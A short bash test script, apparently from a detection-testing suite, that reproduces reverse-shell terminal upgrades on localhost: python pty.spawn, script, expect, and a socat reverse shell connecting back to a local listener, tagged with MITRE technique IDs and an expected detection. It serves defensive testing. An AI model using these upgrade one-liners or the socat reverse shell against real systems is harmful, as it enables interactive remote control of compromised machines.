#!/bin/bash
# desc: a shell given a terminal the way a reverse shell is upgraded: python pty.spawn, script -qc ... /dev/null, socat pty,setsid, expect spawn
# mitre: T1059.004, T1059.006
# expect: shell_upgraded_to_terminal
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

echo 'id; exit' | timeout 10 /usr/bin/python3 -c 'import pty; pty.spawn("/bin/sh")' >/dev/null
echo 'id; exit' | timeout 10 script -qc /bin/sh /dev/null >/dev/null
echo 'id; exit' | timeout 10 expect -c 'spawn /bin/sh; interact' >/dev/null
# socat's full terminal: one side listens (the attacker), the other connects
# back with a shell on a pty (the victim).
port=$(free_port)
(sleep 1; printf 'id\nexit\n') | timeout 10 socat - "TCP-LISTEN:$port,bind=127.0.0.1,reuseaddr" >/dev/null &
wait_listen 127.0.0.1 "$port"
timeout 10 socat "exec:sh -i,pty,stderr,setsid,sigint,sane" "tcp:127.0.0.1:$port" || true
wait
